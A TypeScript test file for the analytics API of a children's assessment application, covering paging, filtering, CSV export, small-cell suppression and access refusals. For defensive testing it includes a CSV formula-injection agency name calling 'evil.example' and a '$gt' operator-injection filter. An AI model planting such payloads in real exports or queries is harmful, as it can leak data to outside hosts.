/**
 * The analytics API on the real app: two children's assessments taken through the whole workflow over HTTP, the
 * example projections built from them by the engine, read by an analyst — the catalogue, pages with Content-Range,
 * filters and sorts on declared fields, the CSV parsed back — and the refusals: 400 naming the parameter, 404 for
 * an unknown projection or collection (state collections included), 403 without Report_Assessment. These few
 * children make small cells: every count below 5 (and what is computed from it) is suppressed, in pages and CSV;
 * a second app shows counts of 5 published, and a formula typed as an agency name neutralised in the CSV.
 */
import { parse } from 'csv-parse/sync';
import { httpTestBackends } from '@cans/storage/test-support/databases';
import { startTestApp, TestApp } from '../../test-support/test-app';
import { AssessmentsApi, createOrganisation, Json, seedTestLibrary } from '../assessments/assessments.test-support';
import { createWizardOrg } from '../reports/test-support/wizard-org';
import { analyst, approvedThroughApi } from './analytics.test-support';
import { NO_REPLAY, UNKNOWN_COLLECTION, UNKNOWN_PROJECTION } from './analytics-request';

const backends = httpTestBackends();

describe.each(backends)('analytics over HTTP (%s)', (backend) => {
  let t: TestApp;
  let read: ReturnType<typeof analyst>;
  let approvedMonth = '';

  beforeAll(async () => {
    t = await startTestApp({ backend });
    await seedTestLibrary(t);
    const ids = await createOrganisation(t);
    const worker = new AssessmentsApi(t, `Bearer ${t.tokenForUser(ids.worker)}`, ids.worker);
    const supervisor = new AssessmentsApi(t, `Bearer ${t.tokenForUser(ids.supervisor)}`, ids.supervisor);
    // Child 1: substance use 3 → 1 (resolved), sleep 2 → 2; child 2: one assessment only (no pair).
    await approvedThroughApi(
      worker,
      supervisor,
      { cin: 'PID-AN-1', dateOfAssessment: '2024-05-01' },
      { T_SUBSTANCE_USE: 3, T_SEVERITY: 2, T_SLEEP: 2 },
    );
    await approvedThroughApi(worker, supervisor, { cin: 'PID-AN-1', dateOfAssessment: '2024-09-01' }, { T_SUBSTANCE_USE: 1, T_SLEEP: 2 });
    await approvedThroughApi(worker, supervisor, { cin: 'PID-AN-2', dateOfAssessment: '2024-06-01' }, { T_SLEEP: 3 });
    approvedMonth = new Date().toISOString().slice(0, 7);
    read = analyst(t);
  }, 120_000);
  afterAll(() => t?.close());

  it('lists the projections with their published collections and fields', async () => {
    const answer = await read('/api/analytics');
    expect(answer.status).toBe(200);
    expect(answer.body.map((entry: Json) => [entry.name, entry.collections.map((c: Json) => c.name)])).toEqual([
      ['item-transitions', ['transitions', 'items']],
      ['time-to-approval', ['by_month']],
    ]);
    const items = answer.body[0].collections[1];
    expect(items.fields.map((field: Json) => field.name)).toEqual([
      'id',
      'subject',
      'item',
      'pairs',
      'actionable',
      'resolved',
      'improved',
      'resolvedPercent',
      'improvedPercent',
    ]);
    expect(items.fields.every((field: Json) => typeof field.description === 'string' && field.description.length > 0)).toBe(true);
    // Each field in words, declared beside it in the projection; item codes say they are codes of items.
    expect(answer.body[0].label).toBe('Item transitions');
    expect(items.label).toBe('Outcomes by item');
    expect(items.fields.map((field: Json) => field.label)).toEqual([
      'Row key',
      'Child or caregiver',
      'Item',
      'Pairs',
      'Actionable',
      'Resolved',
      'Improved',
      'Resolved (%)',
      'Improved (%)',
    ]);
    expect(items.fields.filter((field: Json) => field.refersTo).map((field: Json) => [field.name, field.refersTo])).toEqual([
      ['item', 'item'],
    ]);
    const byMonth = answer.body[1].collections[0];
    expect(byMonth.fields.find((field: Json) => field.name === 'agencyId')).toMatchObject({ label: 'Agency', refersTo: 'agency' });
    expect(byMonth.fields.find((field: Json) => field.name === 'creationToCompletionMeanDays').label).toBe(
      'Creation to completion: mean days',
    );
    // The counts, and the figures computed from them, are declared: the small-cell rule suppresses them below 5.
    expect(items.minimumCellSize).toBe(5);
    expect(items.fields.filter((field: Json) => field.count).map((field: Json) => field.name)).toEqual([
      'pairs',
      'actionable',
      'resolved',
      'improved',
    ]);
    expect(items.fields.find((field: Json) => field.name === 'resolvedPercent').derivedFrom).toEqual(['actionable', 'resolved']);
    expect(answer.body[1]).toMatchObject({ version: 1, description: expect.stringContaining('agency and month'), replays: [] });
  });

  it('serves pages with Content-Range, filtered and sorted on declared fields', async () => {
    const transitions = await read('/api/analytics/item-transitions/transitions', {
      filter: JSON.stringify({ subject: 'child' }),
      sort: JSON.stringify(['item', 'DESC']),
    });
    expect(transitions.status).toBe(200);
    expect(transitions.headers['content-range']).toBe('transitions 0-1/2');
    // Each transition was seen once: a small cell, answered null and named in suppressedFields.
    expect(transitions.body.map((row: Json) => [`${row.item} ${row.from}>${row.to}`, row.count, row.suppressedFields])).toEqual([
      ['T_SUBSTANCE_USE 3>1', null, ['count']],
      ['T_SLEEP 2>2', null, ['count']],
    ]);
    // Each item code with the item's current name from the question library.
    expect(transitions.body.map((row: Json) => row.names)).toEqual([{ item: 'Substance Use' }, { item: 'Sleep' }]);

    const page = await read('/api/analytics/item-transitions/items', { sort: '["item","ASC"]', range: '[1,1]' });
    expect(page.headers['content-range']).toBe('items 1-1/2');
    expect(page.body).toEqual([
      {
        id: 'child.T_SUBSTANCE_USE',
        subject: 'child',
        item: 'T_SUBSTANCE_USE',
        // 1 pair, 1 actionable, resolved and improved: all small cells, and the 100 % computed from them.
        pairs: null,
        actionable: null,
        resolved: null,
        improved: null,
        resolvedPercent: null,
        improvedPercent: null,
        suppressedFields: ['pairs', 'actionable', 'resolved', 'improved', 'resolvedPercent', 'improvedPercent'],
        names: { item: 'Substance Use' },
      },
    ]);
    const listed = await read('/api/analytics/item-transitions/items', { filter: JSON.stringify({ item: ['T_SLEEP', 'T_NONE'] }) });
    // A count of 0 (resolved) is published; the percentage of a small count (actionable 1) is not.
    expect(listed.body.map((row: Json) => [row.item, row.actionable, row.resolved, row.resolvedPercent])).toEqual([
      ['T_SLEEP', null, 0, null],
    ]);

    const months = await read('/api/analytics/time-to-approval/by_month', {
      filter: JSON.stringify({ agencyId: null, month: approvedMonth }),
    });
    expect(months.headers['content-range']).toBe('by_month 0-0/1');
    // 3 approvals: the count and every mean and median of the row are suppressed.
    // No agency: nothing to name.
    expect(months.body[0]).toMatchObject({ id: `none.${approvedMonth}`, agencyId: null, month: approvedMonth, approved: null, names: {} });
    expect(months.body[0].suppressedFields).toEqual([
      'approved',
      'creationToCompletionMeanDays',
      'creationToCompletionMedianDays',
      'completionToApprovalMeanDays',
      'completionToApprovalMedianDays',
      'creationToApprovalMeanDays',
      'creationToApprovalMedianDays',
    ]);
    expect(months.body[0].creationToApprovalMedianDays).toBeNull();
  });

  it('downloads a collection as CSV: the declared fields as columns, the rows as the list sorts and filters them', async () => {
    const answer = await read('/api/analytics/item-transitions/items.csv', { sort: '["item","DESC"]', filter: '{"subject":"child"}' });
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toMatch(/^text\/csv/);
    expect(answer.headers['content-disposition']).toBe('attachment; filename="cans-analytics-item-transitions-items.csv"');
    const rows = parse(answer.text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([
      'id',
      'subject',
      'item',
      'pairs',
      'actionable',
      'resolved',
      'improved',
      'resolvedPercent',
      'improvedPercent',
    ]);
    // Small cells read "< 5"; a count of 0 is published.
    expect(rows.map((row) => [row.item, row.pairs, row.resolved, row.resolvedPercent])).toEqual([
      ['T_SUBSTANCE_USE', '< 5', '< 5', '< 5'],
      ['T_SLEEP', '< 5', '0', '< 5'],
    ]);
    const months = parse((await read('/api/analytics/time-to-approval/by_month.csv')).text, { columns: true }) as Record<string, string>[];
    // A null agency is an empty cell.
    expect(months.map((row) => [row.agencyId, row.month, row.approved, row.creationToApprovalMeanDays])).toEqual([
      ['', approvedMonth, '< 5', '< 5'],
    ]);
  });

  it('answers 400 naming the parameter, 404 for what does not exist, 403 without Report_Assessment', async () => {
    const refused = async (path: string, query: Record<string, string>) => {
      const answer = await read(path, query);
      return [answer.status, Object.keys(answer.body.errors ?? {}), answer.body.message];
    };
    const items = '/api/analytics/item-transitions/items';
    expect((await refused(items, { filter: '{"cin":"PID-AN-1"}' })).slice(0, 2)).toEqual([400, ['filter']]);
    expect((await refused(items, { sort: '["cin","ASC"]' })).slice(0, 2)).toEqual([400, ['sort']]);
    expect((await refused(items, { filter: '{"item":{"$gt":""}}' })).slice(0, 2)).toEqual([400, ['filter.item']]);
    // Filtering or sorting on a count (or a figure derived from one) would find out the suppressed values.
    expect((await refused(items, { filter: '{"actionable":1}' })).slice(0, 2)).toEqual([400, ['filter']]);
    expect((await refused(`${items}.csv`, { filter: '{"resolvedPercent":100}' })).slice(0, 2)).toEqual([400, ['filter']]);
    expect((await refused(items, { sort: '["pairs","DESC"]' })).slice(0, 2)).toEqual([400, ['sort']]);
    expect((await refused(`${items}.csv`, { filter: '[1]' })).slice(0, 2)).toEqual([400, ['filter']]);
    expect((await refused(items, { until: '2024-02-30' })).slice(0, 2)).toEqual([400, ['until']]);
    expect((await refused(items, { until: 'yesterday' })).slice(0, 2)).toEqual([400, ['until']]);
    expect(await refused(items, { until: '2024-12-31' })).toEqual([400, ['until'], NO_REPLAY]);
    // Said to the reader: what is missing and what to do on the page, no server command.
    expect(NO_REPLAY).toMatch(/^No replay of this projection reaches that date yet: ask for one under “Replay as of a past date”\./);
    expect(NO_REPLAY).not.toMatch(/npm|projections --/);
    expect(await refused(`${items}.csv`, { until: '2024-12-31' })).toEqual([400, ['until'], NO_REPLAY]);

    expect(await refused('/api/analytics/no-such/items', {})).toEqual([404, [], UNKNOWN_PROJECTION]);
    expect(await refused('/api/analytics/item-transitions/no_such', {})).toEqual([404, [], UNKNOWN_COLLECTION]);
    // State collections hold PIDs: never served.
    expect(await refused('/api/analytics/item-transitions/chains', {})).toEqual([404, [], UNKNOWN_COLLECTION]);
    expect(await refused('/api/analytics/time-to-approval/assessments.csv', {})).toEqual([404, [], UNKNOWN_COLLECTION]);

    const outsider = `Bearer ${t.tokenFor(['HOME_SHOW', 'Assessment_View'])}`;
    for (const path of ['/api/analytics', items, `${items}.csv`])
      expect((await t.http().get(path).set('Authorization', outsider)).status).toBe(403);
    expect((await t.http().get(items)).status).toBe(401);
  });
});

describe('analytics: counts from 5 are published, and the CSV neutralises formulas', () => {
  let t: TestApp;
  const FORMULA_AGENCY = '=HYPERLINK("http://evil.example/?leak","Agency")';
  const agencies: Record<string, string> = {};

  beforeAll(async () => {
    t = await startTestApp();
    const org = await createWizardOrg(t, 'cells');
    const admin = `Bearer ${t.adminToken()}`;
    for (const name of [FORMULA_AGENCY, 'Small agency']) {
      const created = await t.http().post('/api/agencies').set('Authorization', admin).send({ name, displayName: name });
      expect(created.status).toBe(201);
      agencies[name] = created.body.id;
    }
    const approve = async (cin: string, agencyId: string) => {
      const id = await org.writer.start(org.workerId, { cin }, agencyId);
      await org.writer.rate(id, org.workerId, { SEXUAL_ABUSE: '1' });
      await org.writer.complete(id, org.workerId);
      await org.writer.approve(id, org.supervisorId);
    };
    for (let i = 0; i < 5; i++) await approve(`PID-CELLS-${i}`, agencies[FORMULA_AGENCY]);
    await approve('PID-CELLS-SMALL', agencies['Small agency']);
  });
  afterAll(() => t?.close());

  it('publishes a row of 5 approvals with its means, suppresses the row of 1, in the page and the CSV', async () => {
    const read = analyst(t);
    const page = await read('/api/analytics/time-to-approval/by_month', { sort: '["agencyName","ASC"]' });
    expect(page.status).toBe(200);
    const byAgency = new Map((page.body as Json[]).map((row) => [row.agencyId, row]));
    const five = byAgency.get(agencies[FORMULA_AGENCY]);
    // The agency named from the agencies read model (its display name), beside its id.
    expect(five).toMatchObject({ agencyName: FORMULA_AGENCY, approved: 5, suppressedFields: [], names: { agencyId: FORMULA_AGENCY } });
    expect(five.creationToApprovalMeanDays).toEqual(expect.any(Number));
    const one = byAgency.get(agencies['Small agency']);
    expect(one).toMatchObject({ agencyName: 'Small agency', approved: null, creationToApprovalMeanDays: null });
    expect(one.names).toEqual({ agencyId: 'Small agency' });
    expect(one.suppressedFields).toContain('approved');

    const csv = await read('/api/analytics/time-to-approval/by_month.csv', { sort: '["agencyName","ASC"]' });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    // The agency name typed as a formula reads back as text, with a leading apostrophe.
    expect(rows.map((row) => [row.agencyName, row.approved])).toEqual([
      [`'${FORMULA_AGENCY}`, '5'],
      ['Small agency', '< 5'],
    ]);
    expect(Number(rows[0].creationToApprovalMeanDays)).toBeGreaterThanOrEqual(0);
    expect(rows[1].creationToApprovalMeanDays).toBe('< 5');
  });
});
